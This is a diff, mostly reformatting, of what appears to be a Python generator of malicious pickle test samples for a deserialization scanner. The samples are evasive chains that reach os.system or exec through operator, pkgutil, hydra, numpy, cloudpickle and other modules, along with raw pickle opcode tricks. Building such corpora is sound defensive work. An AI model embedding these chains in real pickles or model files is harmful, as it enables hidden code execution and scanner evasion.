@@ -35,7 +35,9 @@ def _chains() -> dict[str, Any]:
             call(call("operator.attrgetter", "_os.system"), sym("random.Random")), COMMAND
         ),
         "methodcaller": call(call("operator.methodcaller", "system", COMMAND), imported),
-        "methodcaller-on-symbol": call(call("operator.methodcaller", "__call__", COMMAND), sym("posix.system")),
+        "methodcaller-on-symbol": call(
+            call("operator.methodcaller", "__call__", COMMAND), sym("posix.system")
+        ),
         "operator-call": call("operator.call", sym("posix.system"), COMMAND),
         "resolve-name": call(call("pkgutil.resolve_name", "os:system"), COMMAND),
         "resolve-name-dotted": call(call("pkgutil.resolve_name", "os.system"), COMMAND),
@@ -61,14 +63,12 @@ def _chains() -> dict[str, Any]:
         "sys-modules-method": call(
             call(getattr_, call(Sym("sys", "modules.get"), "os"), "system"), COMMAND
         ),
-        "getitem-builtins": call(
-            call(getitem, call("builtins.vars", imported), "system"), COMMAND
-        ),
-        "getitem-globals": call(
-            call(getitem, call("builtins.globals"), "exec"), "print(1)"
-        ),
+        "getitem-builtins": call(call(getitem, call("builtins.vars", imported), "system"), COMMAND),
+        "getitem-globals": call(call(getitem, call("builtins.globals"), "exec"), "print(1)"),
         "getitem-function-globals": call(
-            call(getattr_, call(getitem, Sym("random", "Random.seed.__globals__"), "_os"), "system"),
+            call(
+                getattr_, call(getitem, Sym("random", "Random.seed.__globals__"), "_os"), "system"
+            ),
             COMMAND,
         ),
         "getattr-globals": call(
@@ -88,18 +88,12 @@ def _chains() -> dict[str, Any]:
         "mro-walk": call(
             call(getitem, call(getattr_, sym("collections.OrderedDict"), "__mro__"), -1)
         ),
-        "inspect-getattr-static": call(
-            call("inspect.getattr_static", imported, "system"), COMMAND
-        ),
-        "reduce-getattr": call(
-            call("functools.reduce", getattr_, [imported, "system"]), COMMAND
-        ),
+        "inspect-getattr-static": call(call("inspect.getattr_static", imported, "system"), COMMAND),
+        "reduce-getattr": call(call("functools.reduce", getattr_, [imported, "system"]), COMMAND),
         "map-getattr": call(
             call("builtins.next", call("builtins.map", getattr_, [imported], ["system"])), COMMAND
         ),
-        "pickle-getattribute": call(
-            call("pickle._getattribute", imported, "system"), COMMAND
-        ),
+        "pickle-getattribute": call(call("pickle._getattribute", imported, "system"), COMMAND),
         "unpickler-find-class": call(
             call("pickle.Unpickler.find_class", None, "os", "system"), COMMAND
         ),
@@ -110,11 +104,19 @@ def _chains() -> dict[str, Any]:
         ),
         "zope-resolve": call(call("zope.dottedname.resolve.resolve", "os.system"), COMMAND),
         "twisted-named-any": call(call("twisted.python.reflect.namedAny", "os.system"), COMMAND),
-        "django-import-string": call(call("django.utils.module_loading.import_string", "os.system"), COMMAND),
-        "setuptools-entry-point": call(call("importlib.metadata.EntryPoint", "a", "os:system", "b")),
+        "django-import-string": call(
+            call("django.utils.module_loading.import_string", "os.system"), COMMAND
+        ),
+        "setuptools-entry-point": call(
+            call("importlib.metadata.EntryPoint", "a", "os:system", "b")
+        ),
         "hydra-locate": call(call("hydra._internal.utils._locate", "os.system"), COMMAND),
-        "hydra-instantiate": call("hydra.utils.instantiate", {"_target_": "os.system", "_args_": [COMMAND]}),
-        "numpy-ufunc-reconstruct": call(call("numpy.core._ufunc_reconstruct", "os", "system"), COMMAND),
+        "hydra-instantiate": call(
+            "hydra.utils.instantiate", {"_target_": "os.system", "_args_": [COMMAND]}
+        ),
+        "numpy-ufunc-reconstruct": call(
+            call("numpy.core._ufunc_reconstruct", "os", "system"), COMMAND
+        ),
         "scipy-uarray": call(
             call("scipy._lib._uarray._backend.unpickle_function", "os", "system", None), COMMAND
         ),
@@ -126,21 +128,27 @@ def _chains() -> dict[str, Any]:
         "cloudpickle-subimport": call(
             call(getattr_, call("cloudpickle.cloudpickle.subimport", "os"), "system"), COMMAND
         ),
-        "cloudpickle-getattr": call(call("cloudpickle.cloudpickle._getattribute", imported, "system"), COMMAND),
+        "cloudpickle-getattr": call(
+            call("cloudpickle.cloudpickle._getattribute", imported, "system"), COMMAND
+        ),
         "joblib-func-code": call("joblib.func_inspect.get_func_code", sym("posix.system")),
         "transformers-dynamic": call(
-            "transformers.dynamic_module_utils.get_class_in_module", "Model", "/tmp/weighbridge-eval.py"
+            "transformers.dynamic_module_utils.get_class_in_module",
+            "Model",
+            "/tmp/weighbridge-eval.py",
         ),
         "site-builtins-dotted": call(Sym("functools", "__builtins__.__getitem__"), "exec"),
         "numpy-builtins": call(call(getitem, Sym("numpy", "__builtins__"), "exec"), "print(1)"),
-        "method-of-text": call(
-            call(getattr_, "", "__class__")
-        ),
+        "method-of-text": call(call(getattr_, "", "__class__")),
         "format-attribute": call(
             "builtins.str.format", "{0.__init__.__globals__[os]}", sym("random.Random")
         ),
         "string-formatter": call(
-            "string.Formatter.get_field", call("string.Formatter"), "0.__globals__", [sym("collections.namedtuple")], {}
+            "string.Formatter.get_field",
+            call("string.Formatter"),
+            "0.__globals__",
+            [sym("collections.namedtuple")],
+            {},
         ),
     }
 
@@ -148,7 +156,9 @@ def _chains() -> dict[str, Any]:
 def samples() -> Iterator[Sample]:
     """Yield the samples."""
     for name, item in _chains().items():
-        for protocol in (2, 4) if name in ("getattr-import", "attrgetter", "methodcaller") else (4,):
+        for protocol in (
+            (2, 4) if name in ("getattr-import", "attrgetter", "methodcaller") else (4,)
+        ):
             yield Sample(
                 f"resolver-{name}-{protocol}",
                 "resolver chains",
@@ -185,7 +195,7 @@ def _dotted() -> Iterator[Sample]:
         ("enum", "sys.modules"),
         ("uuid", "os.system"),
     ):
-        shown = f"{module}-{name}".replace(".", "-").replace("_", "")
+        shown = f"{module}--{name}".replace(".", "-").replace("_", "")
         content = pickled(call(Sym(module, name), COMMAND))
         effects = ("process_exec", "object_graph", "tamper", "code_exec", "import_resolve")
         yield Sample(f"dotted-{shown}", "dotted names", effects, PICKLE, content)
@@ -204,7 +214,10 @@ def _computed() -> Iterator[Sample]:
     yield _stack_global("name-computed", write("posix") + write(name) + b"\x93")
     memo = write("system") + b"\x940" + write("posix") + b"\x94" + b"h\x00\x93"
     yield _stack_global("through-memo", memo)
-    yield _stack_global("through-put-and-memoize", write("os") + b"q\x05\x940" + write("x") + b"q\x000h\x05" + write("system") + b"\x93")
+    yield _stack_global(
+        "through-put-and-memoize",
+        write("os") + b"q\x05\x940" + write("x") + b"q\x000h\x05" + write("system") + b"\x93",
+    )
     swapped = write("system") + b"q\x00" + b"0" + write("posix") + b"h\x00" + b"\x93"
     yield _stack_global("popped-and-fetched", swapped)
     string = b"U\x05posixU\x06system\x93"
@@ -213,7 +226,9 @@ def _computed() -> Iterator[Sample]:
     yield _stack_global("binstring", b"T\x05\x00\x00\x00posixT\x06\x00\x00\x00system\x93")
     yield _stack_global("unicode", b"Vposix\nVsystem\n\x93")
     yield _stack_global("escaped-unicode", b"V\\u0070osix\nVs\\u0079stem\n\x93")
-    yield _stack_global("binunicode8", b"\x8d" + (5).to_bytes(8, "little") + b"posix" + write("system") + b"\x93")
+    yield _stack_global(
+        "binunicode8", b"\x8d" + (5).to_bytes(8, "little") + b"posix" + write("system") + b"\x93"
+    )
     yield _stack_global("dup", write("posix") + b"20" + write("system") + b"\x93")
     yield _stack_global("between-tuples", write("posix") + b"(1" + write("system") + b"20\x93")
     item = Seq((1, Raw(write("posix") + write("system") + b"\x93")))
